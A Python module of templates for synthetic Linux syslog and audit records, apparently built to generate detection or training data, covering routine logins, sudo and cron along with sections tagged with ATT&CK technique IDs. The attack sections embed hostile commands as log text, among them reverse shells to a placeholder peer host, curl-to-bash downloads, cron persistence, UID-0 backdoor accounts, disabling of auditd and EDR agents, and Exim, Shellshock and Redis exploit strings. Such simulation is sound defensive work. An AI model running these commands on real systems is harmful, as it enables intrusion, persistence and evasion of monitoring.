# ruff: noqa: E501
"""Linux syslog: what sshd, sudo, su, cron, systemd, the kernel and daemons say, daily work and attacks.

A row is `program: message`; linux.py adds the pid and the envelope.
"""
from __future__ import annotations

from .table import table

SYSLOG = table(r"""
# ssh daily logins
sshd: Accepted «publickey|password|keyboard-interactive/pam» for «user» from ««ip»|«visitor»» port «num:1024:65535» ssh2«|: RSA SHA256:«mixed:43»|: ED25519 SHA256:«mixed:43»»
sshd: pam_unix(sshd:session): session «opened|closed» for user «user»«| by (uid=0)|(uid=1000) by (uid=0)»
sshd: Received disconnect from «ip» port «num:1024:65535»:11: disconnected by user
sshd: Disconnected from user «user» «ip» port «num:1024:65535»
sshd: Starting session: «shell on pts/«num:0:9»|command|subsystem 'sftp'» for «user» from «ip» port «num:1024:65535» id 0
sshd: Connection closed by «ip» port «num:1024:65535»
sshd: Server listening on «0.0.0.0|::» port 22.
sshd: Received signal «15|1»; «terminating|restarting».
sshd: Postponed publickey for «user» from «ip» port «num:1024:65535» ssh2 [preauth]
sshd: User child is on pid «num:1000:65535»
# ssh typing mistakes
sshd: Failed password for «user» from «ip» port «num:1024:65535» ssh2
sshd: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=«ip»  user=«user»
sshd: Failed publickey for «user» from «ip» port «num:1024:65535» ssh2: RSA SHA256:«mixed:43»
sshd: Connection closed by authenticating user «user» «ip» port «num:1024:65535» [preauth]
sshd: pam_sss(sshd:auth): «authentication success|received for user «user»: 17 (Failure setting user credentials)»; logname= uid=0 euid=0 tty=ssh ruser= rhost=«ip» user=«user»
login: FAILED LOGIN (1) on '/dev/tty1' FOR '«user»', Authentication failure
# sudo daily
sudo:   «user» : TTY=pts/«num:0:9» ; PWD=/home/«user» ; USER=root ; COMMAND=«/usr/bin/apt update|/usr/bin/systemctl restart «nginx|mysql|docker|postgresql|php-fpm»|/bin/journalctl -u «nginx|ssh»|/usr/bin/tail -f /var/log/«syslog|nginx/access.log|messages»|/usr/bin/vim /etc/«nginx/nginx.conf|fstab|hosts|my.cnf»|/usr/bin/docker ps|/usr/sbin/ufw status|/bin/ls /root|/usr/bin/yum -y update|/sbin/reboot|/usr/bin/less /var/log/secure|/usr/bin/apt-get install -y «htop|curl|jq|tmux|vim|git»|/bin/su -|/usr/bin/dnf install «tcpdump|nmap-ncat|strace»|/usr/sbin/useradd -m «first»|/bin/chown -R www-data:www-data /var/www/«word»|/usr/bin/crontab -l|/usr/bin/passwd «other»|/bin/mount -a|/usr/sbin/visudo|/usr/bin/netstat -tulpn|/usr/bin/ss -lntp|/usr/bin/du -sh /var/*|/usr/bin/kubectl get pods|/usr/bin/certbot renew|/bin/bash /opt/«word»/deploy.sh»
sudo: pam_unix(sudo:session): session «opened for user root by «user»(uid=«num:0:2000»)|closed for user root»
sudo: «user» : 1 incorrect password attempt ; TTY=pts/«num:0:5» ; PWD=/home/«user» ; USER=root ; COMMAND=/usr/bin/«apt|systemctl|vim»
sudo:   «svc» : PWD=/ ; USER=root ; COMMAND=«/usr/local/bin/backup.sh|/usr/lib/nagios/plugins/check_«disk|load|raid»|/bin/sh -c echo BECOME-SUCCESS-«letters:32» ; /usr/bin/python3 /home/«svc»/.ansible/tmp/ansible-tmp-«epoch».«num:1000:99999»-«num:1000:99999»/AnsiballZ_«apt|copy|service|setup|template».py»
su: (to «root|postgres|«svc»») «user» on pts/«num:0:9»
su: pam_unix(su-l:session): session «opened|closed» for user «root|postgres|news|cyrus» by «user»(uid=«num:0:2000»)
su: FAILED SU (to root) «user» on pts/«num:0:5»
polkitd: Registered Authentication Agent for unix-session:«num:1:400» (system bus name :1.«num:10:900» [/usr/bin/pkttyagent --notify-fd 5 --fallback], object path /org/freedesktop/PolicyKit1/AuthenticationAgent)
sudo:   «user|root» : TTY=pts/«num:0:9» ; PWD=«/opt/«word»/«word»-«num:1:9».«num:0:20».«num:0:9»-linux-x86_64|/usr/share/«word»/bin|/etc/«word»|/home/«user»/«word»|/var/www/«word»|/srv/«word»» ; USER=root ; COMMAND=«./«word» -«e|c|v»« -modules=«word»| -setup|»|/usr/sbin/service «word» «start|stop|restart|status»|/usr/bin/«word».sh -e -E «word».url=https://«known»/«word»/«num:1:9».«num:0:9».«num:0:9»|/bin/su|/usr/bin/tee /etc/«word».conf|/usr/bin/chmod 600 /etc/«word»/«word».key|/usr/bin/wget https://«known»/«word»/«word»-«num:1:9».«num:0:20».deb|/usr/bin/dpkg -i «word»-«num:1:9».«num:0:20»-amd64.deb|/usr/bin/vi /etc/«word»/«word».yml|/bin/cat /var/log/«word»/«word».log|/usr/bin/killall «word»|/usr/bin/rm -r /opt/«word»/«word»-old|/usr/bin/python3 setup.py install|/usr/bin/make install»
# cron daily
CRON: («root|www-data|«svc»|«user»») CMD («   cd / && run-parts --report /etc/cron.hourly|command -v debian-sa1 > /dev/null && debian-sa1 1 1|  [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean|/usr/local/bin/«word».sh > /dev/null 2>&1|/usr/bin/php /var/www/«word»/cron.php|test -x /etc/cron.daily/popularity-contest && /etc/cron.daily/popularity-contest --crond|rsync -a /srv/«word» «linux2»:/backup/|/opt/«word»/bin/«word» --quiet|curl -fsS https://hc-ping.com/«guid» > /dev/null|find /tmp -mtime +«num:2:30» -delete|/usr/bin/certbot -q renew|pg_dump «word» ¦ gzip > /var/backups/«word».sql.gz»)
CRON: pam_unix(cron:session): session «opened|closed» for user «root|www-data|«svc»»« by (uid=0)|»
crond: («root|«user»») CMD (/usr/lib64/sa/sa1 1 1)
crontab: («user») «LIST|BEGIN EDIT|END EDIT|REPLACE» («user»)
anacron: «Job `cron.daily' terminated|Normal exit (1 job run)|Updated timestamp for job `cron.weekly' to «date:%Y-%m-%d»»
# system daily
systemd: «Started|Stopped|Starting|Stopping|Reloading|Finished» «Daily apt download activities|Session «num:1:9999» of user «user»|Network Manager Script Dispatcher Service|Clean php session files|Cleanup of Temporary Directories|LSB: «word» daemon|A high performance web server and a reverse proxy server|Docker Application Container Engine|User Manager for UID «num:0:2000»|Rotate log files|Message of the Day|PostgreSQL RDBMS|OpenBSD Secure Shell server|«Word» «word» service».
systemd: «word».service: «Deactivated successfully|Main process exited, code=exited, status=1/FAILURE|Consumed «num:1:99».«num:100:999»s CPU time|Scheduled restart job, restart counter is at «num:1:9»|Succeeded».
systemd-logind: «New session «num:1:9999» of user «user»|Removed session «num:1:9999»|Session «num:1:9999» logged out. Waiting for processes to exit».
kernel: [«num:1:999999».«num:100000:999999»] «eth0: link up, 1000 Mbps, full duplex|docker0: port 1(veth«hex:7») entered «forwarding|disabled» state|usb 1-«num:1:4»: new high-speed USB device number «num:2:40» using xhci_hcd|EXT4-fs (sda1): mounted filesystem with ordered data mode|Out of memory: Kill process «num:1000:60000» («java|mysqld|node») score «num:100:999» or sacrifice child|TCP: request_sock_TCP: Possible SYN flooding on port «80|443|3306». Sending cookies.|CPU«num:0:15»: Core temperature above threshold, cpu clock throttled|audit: type=1400 audit(«epoch».«num:100:999»:«num:10:9999»): apparmor="STATUS" operation="profile_load" name="/usr/sbin/«mysqld|cupsd»"|Initializing cgroup subsys cpuset|ata1.00: configured for UDMA/133|md: data-check of RAID array md0|perf: interrupt took too long (2501 > 2500)|nfs: server «linux2» not responding, still trying|IPv6: ADDRCONF(NETDEV_CHANGE): eth0: link becomes ready|e1000: eth0 NIC Link is Up 1000 Mbps Full Duplex»
«NetworkManager|dhclient|chronyd|ntpd|rsyslogd|dbus-daemon|snapd|dnsmasq-dhcp|multipathd|smartd|irqbalance|thermald|avahi-daemon|cupsd|containerd|dockerd|kubelet|puppet-agent|chef-client|zabbix_agentd|nrpe|auditd|firewalld|iscsid|gpm|xinetd|named|postfix/smtpd|postfix/qmgr|dovecot|mysqld|postgres|haproxy|keepalived|bluetoothd|ModemManager|gdm|wpa_supplicant»: «state change: activated -> ip-config|DHCPACK from «ip2»|Selected source «peer»|synchronized to «ip2», stratum «num:1:4»|action 'action-«num:1:9»-builtin:omfwd' resumed|[system] Successfully activated service 'org.freedesktop.«hostname1|timedate1|nm_dispatcher»'|DHCPACK(eth0) «ip» «hex:2»:«hex:2»:«hex:2»:«hex:2»:«hex:2»:«hex:2» «workstation»|connect from «tech».«domain»[«peer»]|«HEX:10»: from=<«first»@«domain»>, size=«num:900:90000», nrcpt=1 (queue active)|imap-login: Login: user=<«user»>, method=PLAIN, rip=«ip», TLS|Computed catalog in «num:1:30».«num:10:99» seconds|checkpoint complete: wrote «num:10:9999» buffers|Container «hex:12» health status changed to healthy|loop1: agent «word» started|ready for connections. Version: '8.0.«num:10:36»'  socket: '/var/run/mysqld/mysqld.sock'  port: 3306|Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from «num:100:120» to «num:100:120»|pulled image «site»/«word»:«num:1:9»|Backend web/«linux2» is UP|warning: hostname «tech».«domain» does not resolve to address «peer»|config reloaded|log rotation done|client «ip»: «word» ok|started, version «num:1:9».«num:0:40»»
useradd: new user: name=«first», UID=«num:1000:5000», GID=«num:1000:5000», home=/home/«first», shell=/bin/bash«|, from=/dev/pts/0»
groupadd: new group: name=«docker|postgres|«word»», GID=«num:100:5000»
usermod: add '«other»' to group '«docker|«dept»|www-data|adm»'
passwd: pam_unix(passwd:chauthtok): password changed for «user»
chage: changed password expiry for «svc»
«yum|dnf»: «Installed|Updated|Erased»: «word»-«num:1:9».«num:0:30»-«num:1:9».el«7|8|9».x86_64
dpkg: status installed «lib«word»«num:1:9»|«word»»:amd64 «num:1:9».«num:0:30»-«num:1:9»ubuntu«num:1:9»
logrotate: ALERT exited abnormally with [1]
ftpd: connection from «visitor» («tech».«domain»)
ftpd: FTP LOGIN FROM «visitor» AS «user»
vsftpd: [«user»] OK LOGIN: Client "«visitor»"
# kernel boot daily
kernel: «mapped 4G/4G trampoline to ffff«hex:4».|PCI: «Invalid ACPI-PCI IRQ routing table|Using configuration type 1|PCI BIOS revision 2.10 entry at 0xf«hex:4»|Probing PCI hardware»|ACPI: «Interpreter disabled|bus type PCI registered|Added _OSI(Module Device)|PM-Timer IO Port: 0x«hex:3»».|Transparent bridge - 0000:00:«hex:2».0|zapping low mappings.|You can enable it with acpi=force|DMI 2.«num:3:9» present.|BIOS-provided physical RAM map:|Memory: «num:100000:9999999»k/«num:100000:9999999»k available|CPU: L2 cache: «num:128:4096»K|Checking 'hlt' instruction... OK.|NET: Registered protocol family «num:1:40»|SELinux:  «Initializing|Starting in permissive mode|Registering netfilter hooks».|audit: initializing netlink socket (disabled)|There is already a security framework initialized, register_security failed.|selinux_register_security:  Registering secondary module capability|Failure registering capabilities with the kernel|Linux version «num:2:6».«num:0:20».«num:0:99»-«num:1:900».el«num:5:9» (mockbuild@«tech».«site».com) (gcc version «num:3:12».«num:0:9».«num:0:9»)|Real Time Clock Driver v1.12|serio: i8042 «AUX|KBD» port at 0x60,0x64 irq «num:1:12»|hda: IC35L0«num:10:99»AVER07-0, ATA DISK drive|Freeing unused kernel memory: «num:100:999»k freed|EXT3-fs: «recovery complete|mounted filesystem with ordered data mode».|usbcore: registered new driver «hub|usbhid|hiddev»|ip_tables: (C) 2000-2002 Netfilter core team|Bluetooth: «HCI socket layer initialized|L2CAP ver 2.4»|apm: BIOS not found.|Console: colour VGA+ 80x25|Kernel command line: ro root=LABEL=/ quiet|Inode-cache hash table entries: «num:1000:99999»|klogd 1.4.1, log source = /proc/kmsg started.|microcode: updated early to revision 0x«hex:2»|x86/fpu: Supporting XSAVE feature 0x00«num:1:4»: 'x87 floating point registers'|raid6: using algorithm sse2x4 gen() «num:1000:9999» MB/s|device-mapper: ioctl: 4.«num:10:40».0-ioctl initialised: dm-devel@«known»»
«gdm|login|kdm|lightdm»(pam_unix): «check pass; user unknown|authentication failure; logname= uid=0 euid=0 tty=:0 ruser= rhost=|session opened for user «user» by (uid=0)»
«snmpd|rpc.statd|xinetd|portmap|gpm|sendmail|hcid|sdpd|cups|httpd|syslogd 1.4.1|irqbalance|random|network|nfslock|rc|sysctl|mdmonitor|apmd|acpid|smartd|privoxy|udev»: «Received SNMP packet(s) from ««ip»|«peer»»|Version 1.0.6 Starting|«Word» startup succeeded|«Word» shutdown succeeded|restart.|net.ipv4.ip_forward = 0|Bringing up interface eth0:  succeeded|Initializing random number generator:  succeeded|alias database /etc/aliases rebuilt by root|fatal: mail service shutdown»
systemd-logind: Watching system buttons on /dev/input/event«num:0:9» («Sleep|Power» Button)
sshd: Received disconnect from «ip» port «num:1024:65535»:11: «Closed due to user request.|disconnected by user|Bye Bye»
# T1110 ssh guessing
sshd: Failed password for invalid user «admin|test|oracle|ubuntu|pi|guest|ftpuser|git|postgres|user|support|nagios|hadoop|jenkins|minecraft|deploy|ubnt|0|root1|www|mysql|tomcat|zabbix|«first»|«letters:3:7»|student|es|demo|steam|teamspeak|a|svn|info|backup|vagrant|odoo|testuser|default|administrator» from «pub» port «num:1024:65535» ssh2
sshd: Failed «password|none|keyboard-interactive/pam» for root from «pub» port «num:1024:65535» ssh2
sshd: Invalid user «admin|test|oracle|ubuntu|pi|guest|ftpuser|«first»|«letters:3:8»|0|user1|service|1234|ts3|nvidia|cisco» from «pub»«| port «num:1024:65535»»
sshd: input_userauth_request: invalid user «admin|test|«first»|oracle|«letters:4:8»» [preauth]
sshd: pam_unix(sshd:auth): check pass; user unknown
sshd: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=««pub»|«tech»-«num:1:99».«domain»» «| user=root»
sshd(pam_unix): «authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=««pub»|«letters:4»-«num:1:250».«domain»»«  user=root|  user=«test|guest|news»|»|check pass; user unknown»
sshd: Received disconnect from «pub»«: 11: Bye Bye| port «num:1024:65535»:11: Bye Bye|: 3: com.jcraft.jsch.JSchException: Auth fail| port «num:1024:65535»:11: Normal Shutdown, Thank you for playing» [preauth]
sshd: Disconnected from «authenticating user root|invalid user «admin|test|«letters:5»»» «pub» port «num:1024:65535» [preauth]
sshd: Connection «closed|reset» by «authenticating user root |invalid user «letters:4:7» |»«pub»« port «num:1024:65535»|» [preauth]
sshd: error: maximum authentication attempts exceeded for «root|invalid user «letters:4:7»» from «pub» port «num:1024:65535» ssh2 [preauth]
sshd: Disconnecting«: Too many authentication failures| authenticating user root «pub» port «num:1024:65535»: Too many authentication failures»«| for root» [preauth]
sshd: PAM «num:2:5» more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=«pub»  user=root
sshd: PAM service(sshd) ignoring max retries; «num:4:6» > 3
sshd: message repeated «num:2:6» times: [ Failed password for root from «pub» port «num:1024:65535» ssh2]
sshd: reverse mapping checking getaddrinfo for «letters:3»-«num:1:250».«domain» [«pub»] failed - POSSIBLE BREAK-IN ATTEMPT!
sshd: Address «pub» maps to «tech».«domain», but this does not map back to the address - POSSIBLE BREAK-IN ATTEMPT!
sshd: User «root|ftp|mysql|nobody|www-data» from «pub» not allowed because «not listed in AllowUsers|listed in DenyUsers|shell /usr/sbin/nologin does not exist»
«vsftpd|proftpd|ftpd|dovecot|postfix/smtpd|xrdp-sesman|webmin»: «pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=«admin|anonymous|test» rhost=«pub»|auth: pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot ruser=«info|admin|test»@«domain» rhost=«pub»|warning: unknown[«pub»]: SASL LOGIN authentication failed: UGFzc3dvcmQ6|Invalid login as admin from «pub»|USER «admin|root|test» (Login failed): No such user found»
login: FAILED LOGIN («num:3:9») on '/dev/pts/0' from '«pub»' FOR 'root', Authentication failure
fail2ban.actions: NOTICE [sshd] Ban «pub»
# T1595 ssh scanning
sshd: Did not receive identification string from «pub»«| port «num:1024:65535»»
sshd: Bad protocol version identification '«GET / HTTP/1.1|\003|\026\003\001|SSH-2.0-Go|help|MGLNDD_«pub»_22|\377\373\037»' from «pub» port «num:1024:65535»
sshd: Unable to negotiate with «pub» port «num:1024:65535»: no matching «host key type|key exchange method|cipher» found. Their offer: «ssh-dss|diffie-hellman-group1-sha1|aes128-cbc» [preauth]
sshd: «error: kex_exchange_identification: «Connection closed by remote host|client sent invalid protocol identifier "«letters:4»"|banner line contains invalid characters»|ssh_dispatch_run_fatal: Connection from «pub» port «num:1024:65535»: «message authentication code incorrect|Connection corrupted» [preauth]|fatal: Read from socket failed: Connection reset by peer [preauth]|banner exchange: Connection from «pub» port «num:1024:65535»: invalid format|Protocol major versions differ for «pub»: SSH-2.0-OpenSSH_7.4 vs. SSH-1.5-NmapNSE_1.0|scanned from «pub» with SSH-1.0-SSH_Version_Mapper.  Don't panic.»
kernel: [UFW BLOCK] IN=eth0 OUT= MAC=«hex:12» SRC=«pub» DST=«ip» LEN=40 TOS=0x00 PREC=0x00 TTL=«num:40:250» ID=54321 PROTO=TCP SPT=«num:1024:65535» DPT=«23|2323|445|3389|5555|8088|6379|1433» WINDOW=65535 RES=0x00 SYN URGP=0
telnetd: ttloop: read: Connection reset by peer from «pub»
# T1078.003 root from outside
sshd: Accepted password for root from «pub» port «num:1024:65535» ssh2
login: ROOT LOGIN on '/dev/pts/«num:0:4»' from '«pub»'
sshd: Accepted password for «nobody|www-data|mysql|games|daemon|sync» from «pub» port «num:1024:65535» ssh2
# T1548.003 sudo abuse
sudo:   «user|www-data|nobody» : TTY=pts/«num:0:9» ; PWD=«/tmp|/dev/shm|/var/tmp» ; USER=root ; COMMAND=«/bin/bash -i|/usr/bin/python3 -c import os; os.system("/bin/sh")|/usr/bin/find . -exec /bin/sh ;|/usr/bin/vim -c :!/bin/sh|/usr/bin/awk BEGIN {system("/bin/sh")}|/usr/bin/nmap --interactive|/usr/bin/perl -e exec "/bin/sh";|/bin/chmod u+s /bin/bash|/bin/cat /etc/shadow|/usr/bin/tee -a /etc/sudoers|/usr/sbin/useradd -o -u 0 -g 0 «letters:5»|/usr/bin/socat tcp-connect:«peer»:«port» exec:bash|/bin/cp /etc/shadow /tmp/.s|/usr/bin/env /bin/sh|/usr/sbin/iptables -F|/usr/sbin/tcpdump -i any -w /tmp/.«letters:3».pcap|/bin/dd if=/dev/mem of=/tmp/m|/usr/sbin/setenforce 0|/bin/systemctl stop «auditd|falco|rsyslog|crowdstrike-falcon-sensor|wazuh-agent»|/usr/bin/curl http://«peer»/«letters:3».sh -o /tmp/.«letters:3»»
sudo: «www-data|nobody|«user»» : «3 incorrect password attempts|user NOT in sudoers|command not allowed» ; TTY=«unknown|pts/«num:0:5»» ; PWD=«/tmp|/var/www/html|/dev/shm» ; USER=root ; COMMAND=«/bin/bash|/bin/su|/usr/bin/id|list|/bin/cat /etc/shadow»
sudo: «user» : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/«bash|sh»
su: pam_unix(su:auth): authentication failure; logname= uid=33 euid=0 tty=pts/«num:0:5» ruser=www-data rhost=  user=root
su: (to root) «www-data|nobody|apache|tomcat|postgres» on pts/«num:0:9»
pkexec: «www-data|nobody|«user»»: The value for the SHELL variable was not found in the /etc/shells file [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=GCONV_PATH=./«letters:5»/ PATH=GCONV_PATH=. SHELL=/«letters:4»]
# T1053.003 cron persistence
CRON: («root|www-data|«user»») CMD («curl -s http://«peer»/«letters:2:5».sh ¦ bash|wget -q -O- http://«domain»/«letters:2» ¦ sh|(curl -fsSL https://pastebin.com/raw/«mixed:8»¦¦wget -qO- https://pastebin.com/raw/«mixed:8»)¦sh|/tmp/.«letters:3»/«letters:4» > /dev/null 2>&1|/dev/shm/.«letters:2:5»|echo «shbad» ¦ base64 -d ¦ sh|bash -i >& /dev/tcp/«peer»/«port» 0>&1|/var/tmp/.«word»/«kdevtmpfsi|kinsing|xmrig|sysupdate|networkservice»|python -c 'import urllib;exec(urllib.urlopen("http://«peer»/«letters:2».py").read())'|nc -e /bin/sh «peer» «port»|/usr/bin/.«letters:4» -c /tmp/.conf»)
crontab: («www-data|nobody|apache») «REPLACE|BEGIN EDIT» («root|www-data»)
# T1136.001 account and key implants
useradd: new user: name=«hacker|backdoor|toor|support1|sysadm|r00t|«letters:4»», UID=0, GID=0, home=/root, shell=/bin/bash
useradd: new user: name=«letters:5:8», UID=0, GID=«num:0:10», home=/«tmp|dev/shm|var/tmp», shell=/bin/sh
usermod: «change user 'www-data' shell from '/usr/sbin/nologin' to '/bin/bash'|add '«www-data|nobody|games|«letters:5»»' to group '«sudo|wheel|root»'|unlock user 'root' password»
passwd: pam_unix(passwd:chauthtok): password changed for «root|www-data|nobody|daemon»
groupadd: group added to /etc/group: name=«letters:5», GID=0
# T1562.001 logging and kernel tampering
systemd: «Stopped|Stopping» «Security Auditing Service|System Logging Service|CrowdStrike Falcon Sensor|Wazuh agent|Falco|firewalld - dynamic firewall daemon|Uncomplicated firewall|Elastic Agent».
auditd: The audit daemon is exiting.
kernel: «[«num:1:999999».«num:100000:999999»] |»«audit: *NO* daemon at audit_pid=«num:300:9999»|«letters:5»: module verification failed: signature and/or required key missing - tainting kernel|«diamorphine|reptile|«letters:6»»: loading out-of-tree module taints kernel.|device eth0 entered promiscuous mode|traps: «sudo|pkexec|polkitd|sshd»[«num:1000:9999»] general protection fault ip:«hex:12» sp:«hex:12» error:0|«sudo|su|pkexec|passwd»[«num:1000:9999»]: segfault at «hex:8» ip «hex:12» sp «hex:12» error 4 in libc.so.6|process '/«tmp|dev/shm»/.«letters:4»' started with executable stack|LKM: «letters:6» hidden»
systemd: Started «letters:8» «daemon|service» («/tmp|/dev/shm|/var/tmp»/.«letters:5»).
systemd: «kworker-«letters:3»|systemd-«letters:4»d|«letters:9»».service: Main process exited, code=exited, «status=203/EXEC ExecStart=/tmp/.«letters:4»|status=1/FAILURE ExecStart=/bin/bash -c 'curl «peer»¦sh'»
rsyslogd: [origin software="rsyslogd"] exiting on signal 15. log file /var/log/auth.log truncated
# T1190 exploited daemons
«proftpd|exim|named|smbd|httpd|nginx|postfix/smtpd|redis-server|mysqld|postgres»: «FTP session opened. USER AB;nc «peer» «port» -e /bin/sh|dispatch: SITE CPFR /proc/self/cmdline: Permission denied|rejected RCPT <${run{\x2Fbin\x2Fsh\t-c\t\x22wget\x20«peer»\x22}}@localhost>|client @0x«hex:12» «pub»#«num:1024:65535» (version.bind): query (cache) 'version.bind/TXT/CH' denied|is_known_pipename: trans request for /tmp/«letters:8».so|warning: non-SMTP command from unknown[«pub»]: () { :; }; /bin/bash -c 'curl «peer»¦sh'|# Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis.|MODULE LOAD /tmp/«letters:6».so by «pub»|COPY «letters:5» FROM PROGRAM 'curl http://«peer»/«letters:3».sh ¦ bash'|Client «pub» sent CONFIG SET dir /var/spool/cron|rpc.statd: gethostbyname error for ^X\367\377\277^X\367\377\277%8x%8x%62716x%hn»
""")

# Audit records that hold no command: what comes after `type=… msg=audit(…): `.
RECORDS = table(r"""
# audit sessions daily
USER_AUTH pid=«num:300:65535» uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication «grantors=pam_unix |»acct="«user»" exe="«/usr/sbin/sshd|/usr/bin/sudo|/usr/bin/su|/usr/sbin/gdm-session-worker|/usr/sbin/cron»" hostname=««ip»|?» addr=««ip»|?» terminal=«ssh|/dev/pts/«num:0:5»|cron» res=success'
«USER_ACCT|CRED_ACQ|CRED_REFR|CRED_DISP|USER_START|USER_END» pid=«num:300:65535» uid=0 auid=«num:1000:3000» ses=«num:1:3000» msg='op=PAM:«accounting|setcred|session_open|session_close» «grantors=pam_unix|grantors=pam_permit,pam_cap» acct="«root|user»" exe="«/usr/bin/sudo|/usr/sbin/cron|/usr/sbin/sshd|/usr/lib/systemd/systemd»" hostname=? addr=? terminal=«cron|/dev/pts/1|ssh|?» res=success'
USER_LOGIN pid=«num:300:65535» uid=0 auid=«num:1000:3000» ses=«num:1:3000» msg='op=login id=«num:1000:3000» exe="/usr/sbin/sshd" hostname=«ip» addr=«ip» terminal=/dev/pts/«num:0:5» res=success'
USER_AUTH pid=«num:300:65535» uid=«num:1000:3000» auid=«num:1000:3000» ses=«num:1:3000» msg='op=PAM:authentication grantors=? acct="«user»" exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/«num:0:5» res=failed'
LOGIN pid=«num:300:65535» uid=0 old-auid=4294967295 auid=«num:0:3000» tty=(none) old-ses=4294967295 ses=«num:1:9999» res=1
CRYPTO_«KEY_USER|SESSION» pid=«num:300:65535» uid=0 auid=4294967295 ses=4294967295 msg='op=«destroy kind=server fp=SHA256:«hex:2»:«hex:2»:«hex:2»|start direction=from-server cipher=chacha20-poly1305@openssh.com ksize=512» spid=«num:300:65535» suid=0 exe="/usr/sbin/sshd" hostname=? addr=«ip» terminal=? res=success'
# audit services daily
«SERVICE_START|SERVICE_STOP» pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=«nginx|cron|systemd-tmpfiles-clean|apt-daily|docker|user@«num:1000:3000»|logrotate|fwupd|snapd|chronyd|«word»» comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'
«DAEMON_ROTATE op=rotate-logs auid=0 pid=«num:300:9999» res=success|SYSTEM_RUNLEVEL pid=«num:300:9999» uid=0 auid=4294967295 ses=4294967295 msg='old-level=N new-level=5 comm="systemd-update-utmp" exe="/usr/lib/systemd/systemd-update-utmp" hostname=? addr=? terminal=? res=success'|PROCTITLE proctitle="(systemd)"|BPF prog-id=«num:10:300» op=LOAD|NETFILTER_CFG table=filter family=2 entries=«num:4:90»|CWD cwd="«/home/«user»|/|/root|/var/www/html|/opt/«word»»"|EOE |SOCKADDR saddr=0100«hex:32»|SOFTWARE_UPDATE pid=«num:300:9999» uid=0 auid=«num:1000:2000» ses=2 msg='sw="«word»-«num:1:9».«num:0:20»-1.el8.x86_64" sw_type=rpm key_enforce=0 gpg_res=1 root_dir="/" comm="dnf" exe="/usr/bin/python3.6" res=success'»
AVC apparmor="«ALLOWED|DENIED»" operation="open" profile="«/usr/sbin/«cupsd|mysqld|named»|snap.«word».«word»»" name="/«etc/«word».conf|proc/«num:300:9999»/status»" pid=«num:300:9999» comm="«word»" requested_mask="r" denied_mask="r" fsuid=0 ouid=0
USER_MGMT pid=«num:300:9999» uid=0 auid=«num:1000:2000» ses=«num:1:900» msg='op=«changing password|add-user-to-group» grp="«docker|«dept»»" acct="«other»" exe="/usr/sbin/usermod" hostname=? addr=? terminal=pts/«num:0:4» res=success'
# audit files daily
PATH item=«num:0:2» name="«/usr/bin/«ls|cat|man|git|vim|sudo|ssh»|/lib64/ld-linux-x86-64.so.2|/etc/«hosts|resolv.conf|passwd|group|shadow|gshadow|sudoers|localtime|pam.d/sudo|nginx/nginx.conf|ld.so.cache»|/home/«user»/«.bashrc|«word».txt|.viminfo|.ssh/known_hosts»|/var/log/«syslog|nginx/access.log|«word».log»|/srv/«word»/«file»|/tmp/«word».tmp|/usr/lib/python3/dist-packages/«word»/__init__.py|/proc/self/status|/dev/null|/var/lib/dpkg/status»" inode=«num:1000:9999999» dev=08:02 mode=0100«644|755|640|600» ouid=«0|«num:1000:3000»» ogid=0 rdev=00:00 nametype=«NORMAL|CREATE|DELETE|PARENT» cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0
SYSCALL arch=c000003e syscall=«257|2|59|42|82|87|90|188|105» success=«yes|no» exit=«0|3|-2|-13» a0=«hex:8» a1=«hex:12» a2=«hex:4» a3=0 items=«num:1:3» ppid=«num:300:65535» pid=«num:300:65535» auid=«num:1000:3000» uid=«0|1000» gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=«pts0|(none)» ses=«num:1:3000» comm="«ls|cat|vim|apt|git|python3|cron|sshd|systemd|node|java|bash|nginx|man|rsync|dpkg|grep|mandb|tar|sudo|ps|dockerd|«word»»" exe="/usr/«bin|sbin|lib/«word»»/«bash|python3.10|vim.basic|git|«word»|sshd|cron|node»" key=«(null)|"etc-change"|"access"|"perm_mod"»
# T1110 audit guessing
«USER_AUTH|USER_LOGIN|USER_ERR» pid=«num:300:65535» uid=0 auid=4294967295 ses=4294967295 msg='op=«PAM:authentication grantors=?|login|PAM:bad_ident grantors=?» acct="«(unknown user)|(invalid user)|root|admin|test|oracle|28696E76616C6964207573657229|28756E6B6E6F776E207573657229»" exe="/usr/sbin/sshd" hostname=««pub»|?» addr=«pub» terminal=«ssh|sshd» res=failed'
ANOM_LOGIN_«FAILURES|TIME|LOCATION» pid=«num:300:9999» uid=0 auid=4294967295 ses=4294967295 msg='op=pam_faillock acct="root" exe="/usr/sbin/sshd" hostname=«pub» addr=«pub» terminal=ssh res=success'
RESP_ACCT_LOCK pid=«num:300:9999» uid=0 auid=4294967295 msg='op=pam_faillock suid=«num:0:2000» exe="/usr/sbin/sshd" hostname=«pub» addr=«pub» terminal=ssh res=success'
# T1222.002 audit odd files
